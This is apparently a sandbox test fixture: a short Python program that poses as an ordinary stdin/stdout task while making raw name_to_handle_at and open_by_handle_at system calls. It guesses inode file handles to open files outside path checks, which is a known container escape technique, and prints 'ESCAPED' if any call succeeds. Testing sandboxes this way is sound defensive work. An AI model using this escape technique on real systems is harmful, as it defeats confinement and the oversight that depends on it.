# /// tockbox
# row = 59
# title = "open files by handle, around every path check"
# honest = false
# kind = "stdio"
# stdin = "3\n"
# expected_stdout = "6\n"
# limits = { cpu_seconds = 4, wall_seconds = 10, memory_mib = 256, output_bytes = 65536 }
# verdicts = ["accepted"]
# wasm = "extension_modules"
# verdicts_wasm = ["runtime_error"]
# stopped_by = "no capabilities, seccomp"
# ///
import ctypes
import errno
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
ARM = os.uname().machine == "aarch64"


def kernel(x86, arm, *args):
    """One raw system call: (result, name of the errno)."""
    number = arm if ARM else x86
    if number is None:
        return -1, "ENOSYS"
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    got = LIBC.syscall(ctypes.c_long(number), *words)
    return got, errno.errorcode.get(ctypes.get_errno(), "0")


n = int(input())
won = []
handle = ctypes.create_string_buffer(136)
ctypes.c_uint.from_buffer(handle).value = 128
mount_id = ctypes.c_int()
AT_FDCWD = -100
kernel(303, 264, AT_FDCWD, b".", handle, ctypes.byref(mount_id), 0)
here = os.open(".", os.O_RDONLY)
for length, kind, inode in ((8, 1, 2), (8, 1, 128), (12, 254, 0)):
    guess = ctypes.create_string_buffer(136)
    (ctypes.c_uint * 4).from_buffer(guess)[:] = [length, kind, inode, 0]
    if kernel(304, 265, here, guess, os.O_RDONLY)[0] >= 0:
        won.append(f"opened inode {inode} by handle")
if kernel(304, 265, here, handle, os.O_RDONLY)[0] >= 0:
    won.append("opened a handle")

print("ESCAPED: " + "; ".join(won) if won else n * 2)
